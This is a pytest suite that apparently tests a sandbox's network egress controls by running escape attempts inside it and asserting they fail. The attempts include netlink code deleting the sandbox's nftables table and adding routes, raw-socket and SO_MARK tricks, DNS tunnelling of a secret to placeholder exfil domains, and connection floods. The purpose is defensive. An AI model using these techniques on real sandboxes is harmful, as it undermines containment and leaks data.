"""Attacks through the real server. Egress: sandboxes with network access.

The server enables network and allows 203.0.113.0/24, the names allowed.test
and *.good.test, at most 8 connections at once; the "internet" is
tests/integration/netlab.py (an HTTP, TCP and DNS server in a namespace of
the test's own). Every attack runs with {"network": {"enabled": true}}: what
it may reach is exactly the policy, whatever it does from inside. The
server, the helpers and what "intact" means (the host's firewall rules,
interfaces and routes included): attack.py."""
import os

import pytest

from attack import ISOLATION, Background, attack_server, intact, run  # noqa: F401
from netlab import lab  # noqa: F401 (the fixture)

NET = {"enabled": True}


@pytest.fixture(scope="module")
def srv(lab, tmp_path_factory):
    extra = ("  security:\n    enable_network: true\n  network:\n"
             "    allow: [\"203.0.113.0/24\", \"allowed.test\", \"*.good.test\"]\n"
             f"    dns: [\"{lab.dns_v4}\"]\n    max_connections: 8\n")
    with attack_server(tmp_path_factory.mktemp("egress"), name="egress",
                       sandbox_extra=extra) as s:
        yield s


def py(srv, code, **kw):
    res = run(srv, "python", code, network=NET, **kw)
    return res


# Netlink from Python: one request, the errno of its ack.
NETLINK = r'''
import socket, struct, os
def nl(proto, msgtype, flags, payload):
    s = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, proto)
    s.bind((0, 0))
    hdr = struct.pack("=LHHLL", 16 + len(payload), msgtype, flags | 1 | 4, 1, 0)
    s.send(hdr + payload)
    data = s.recv(4096)
    length, mtype = struct.unpack("=LH", data[:6])
    if mtype == 2:
        err = struct.unpack("=i", data[16:20])[0]
        return os.strerror(-err) if err else "ok"
    return "type %d" % mtype
'''


def test_cannot_rewrite_its_own_rules_or_routes(srv):
    """From inside, delete the sandbox's nftables table, add routes and addresses over netlink, to get out unfiltered."""
    code = NETLINK + (
        # NFT_MSG_DELTABLE "soulbox" (inet) in a batch
        "name = b'soulbox\\x00'\n"
        "attr = struct.pack('=HH', 4 + len(name), 1) + name + b'\\x00' * ((-len(name)) % 4)\n"
        "nfgen = struct.pack('=BBH', 1, 0, 0)\n"
        "begin = struct.pack('=LHHLL', 20, 0x10, 1, 1, 0) + struct.pack('=BBH', 0, 0, socket.htons(10))\n"
        "body = nfgen + attr\n"
        "msg = struct.pack('=LHHLL', 16 + len(body), (10 << 8) | 2, 1 | 4, 2, 0) + body\n"
        "end = struct.pack('=LHHLL', 20, 0x11, 1, 3, 0) + struct.pack('=BBH', 0, 0, socket.htons(10))\n"
        "s = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 12); s.bind((0, 0))\n"
        "s.send(begin + msg + end)\n"
        "d = s.recv(4096); print('deltable', os.strerror(-struct.unpack('=i', d[16:20])[0]))\n"
        # RTM_NEWROUTE: 0.0.0.0/0 via lo in table 100
        "rt = struct.pack('=BBBBBBBBI', 2, 0, 0, 0, 100, 4, 0, 1, 0)\n"
        "print('newroute', nl(0, 24, 0x400 | 0x200, rt + struct.pack('=HHI', 8, 4, 1)))\n"
        # RTM_NEWADDR 10.9.9.9/32 on lo
        "ifa = struct.pack('=BBBBI', 2, 32, 0, 0, 1)\n"
        "print('newaddr', nl(0, 20, 0x400 | 0x200, ifa + struct.pack('=HH4s', 8, 2, bytes([10, 9, 9, 9]))))\n"
        "import urllib.request\n"
        "try: urllib.request.urlopen('http://198.51.100.10/', timeout=3); print('REACHED')\n"
        "except Exception as e: print('after', e.reason)\n")
    res = py(srv, code)
    assert res["stdout"] == ("deltable Operation not permitted\nnewroute Operation not permitted\n"
                             "newaddr Operation not permitted\nafter [Errno 111] Connection refused\n"), res
    intact(srv)


def test_cannot_send_raw_or_marked_packets(srv):
    """Raw and packet sockets, SO_MARK and IP_TRANSPARENT, to craft traffic the rules do not see as the sandbox's."""
    code = ("import socket\n"
            "for args in [(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_TCP),\n"
            "             (socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_ICMPV6),\n"
            "             (socket.AF_PACKET, socket.SOCK_RAW, 0)]:\n"
            "    try: socket.socket(*args); print('OPEN')\n"
            "    except OSError as e: print(e.strerror)\n"
            "s = socket.socket()\n"
            "for level, opt, val in [(socket.SOL_SOCKET, 36, 1), (socket.SOL_IP, 19, 1)]:\n"
            "    try: s.setsockopt(level, opt, val); print('SET')\n"
            "    except OSError as e: print(e.strerror)\n")
    res = py(srv, code)
    assert res["stdout"] == "Operation not permitted\n" * 5, res
    intact(srv)


def test_udp_reaches_only_the_resolver(srv, lab):
    """Send DNS straight to an allowed address and to any server, and other UDP, to tunnel data out."""
    lab.clear_dns_queries()
    code = ("import socket, struct\n"
            "def q(server, name):\n"
            "    u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); u.settimeout(3)\n"
            "    p = struct.pack('!HHHHHH', 0x1234, 0x100, 1, 0, 0, 0)\n"
            "    p += b''.join(bytes([len(l)]) + l.encode() for l in name.split('.')) + b'\\0'\n"
            "    u.sendto(p + struct.pack('!HH', 1, 1), (server, 53))\n"
            "    d = u.recv(512); return d[3] & 15, struct.unpack('!H', d[6:8])[0]\n"
            f"print(q({lab.dns_v4!r}, 'leak-one.exfil.example'))\n"
            "print(q('203.0.113.10', 'leak-two.exfil.example'))\n"
            "print(q('8.8.8.8', 'allowed.test'))\n"
            "u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
            "try: u.sendto(b'secret', ('203.0.113.10', 9999)); print('SENT')\n"
            "except OSError as e: print(e.strerror)\n")
    res = py(srv, code)
    # rcode 3 (NXDOMAIN) for names the policy does not allow, whichever
    # server was asked; an allowed name answered (1 record) by SoulBox's resolver.
    # Other UDP: refused on the send; in a microVM the guest's send succeeds and
    # QEMU's is refused in its namespace (docs/microvm.md, "Network").
    other = "SENT" if ISOLATION == "microvm" else "Operation not permitted"
    assert res["stdout"] == f"(3, 0)\n(3, 0)\n(0, 1)\n{other}\n", res
    if ISOLATION == "microvm":
        assert res["network"]["connections_refused"] >= 1
    names = {n for n, _ in lab.dns_queries()}
    assert not any("exfil" in n for n in names), names
    intact(srv)


def test_dns_tunnelling_never_leaves_the_host(srv, lab):
    """Exfiltrate a secret in the labels of hundreds of DNS queries for names the policy does not allow."""
    lab.clear_dns_queries()
    code = ("import socket\n"
            "n = 0\n"
            "for i in range(300):\n"
            "    try: socket.getaddrinfo(f'{i:04x}736563726574.tunnel.example', 80)\n"
            "    except socket.gaierror as e: n += e.errno == socket.EAI_NONAME\n"
            "print(n)\n")
    res = py(srv, code, limits={"wall_time_ms": 30000})
    assert res["stdout"] == "300\n", res
    assert not any("tunnel" in n for n, _ in lab.dns_queries())
    intact(srv)


def test_connection_flood_is_capped(srv):
    """Open hundreds of connections at once to exhaust the host's sockets or the destination."""
    code = ("import socket\n"
            "held, reset = [], 0\n"
            "for i in range(200):\n"
            "    try:\n"
            "        s = socket.create_connection(('203.0.113.10', 9000), timeout=3)\n"
            "        if s.recv(100): held.append(s)\n"
            "        else: reset += 1\n"
            "    except OSError: reset += 1\n"
            "print(len(held), reset)\n")
    res = py(srv, code, limits={"wall_time_ms": 30000})
    assert res["stdout"] == "8 192\n", res
    assert res["network"]["connections"] == 8
    intact(srv)


def test_other_sandboxes_and_the_host_are_out_of_reach(srv):
    """One network-enabled sandbox listens; another connects to it on every address it could guess (its loopback, the host's addresses)."""
    listener = Background(srv, {"language": "python", "network": NET, "code":
                                "import socket, time\ns = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)\n"
                                "s.bind(('0.0.0.0', 8765)); s.listen()\ns.settimeout(4)\nprint('listening', flush=True)\n"
                                "try: s.accept(); print('REACHED')\nexcept socket.timeout: print('nobody came')\n"})
    listener.started()
    addrs = ["127.0.0.1"] + [a for a in _host_v4()]
    code = ("import socket\n"
            f"for a in {addrs!r}:\n"
            "    try: socket.create_connection((a, 8765), timeout=2); print(a, 'CONNECTED')\n"
            "    except OSError as e: print(a, e.strerror)\n")
    res = py(srv, code)
    assert res["stdout"] == "".join(f"{a} Connection refused\n" for a in addrs), res
    assert listener.finish()["stdout"] == "listening\nnobody came\n"
    intact(srv)


def test_a_hanging_destination_ends_with_the_program(srv):
    """Hold connections to a destination that never answers, past the wall-time limit, to leave sockets and relays behind."""
    fds_before = len(os.listdir(f"/proc/{srv.proc.pid}/fd"))
    code = ("import socket\nheld = []\n"
            "for i in range(6):\n"
            "    s = socket.create_connection(('203.0.113.10', 80))\n"
            "    s.sendall(b'GET /slow HTTP/1.0\\r\\n\\r\\n'); held.append(s)\n"
            "print('holding', flush=True)\nsocket.socket().recv(1) if False else __import__('time').sleep(60)\n")
    res = py(srv, code, limits={"wall_time_ms": 2000})
    assert res["status"] == "time_limit_exceeded" and res["stdout"] == "holding\n", res
    from server import wait_until
    assert wait_until(lambda: len(os.listdir(f"/proc/{srv.proc.pid}/fd")) <= fds_before,
                      timeout=10)
    intact(srv)


def _host_v4():
    import subprocess
    out = subprocess.run(["ip", "-o", "-4", "addr", "show"], capture_output=True, text=True).stdout
    return sorted({l.split()[3].split("/")[0] for l in out.splitlines()} - {"127.0.0.1"})
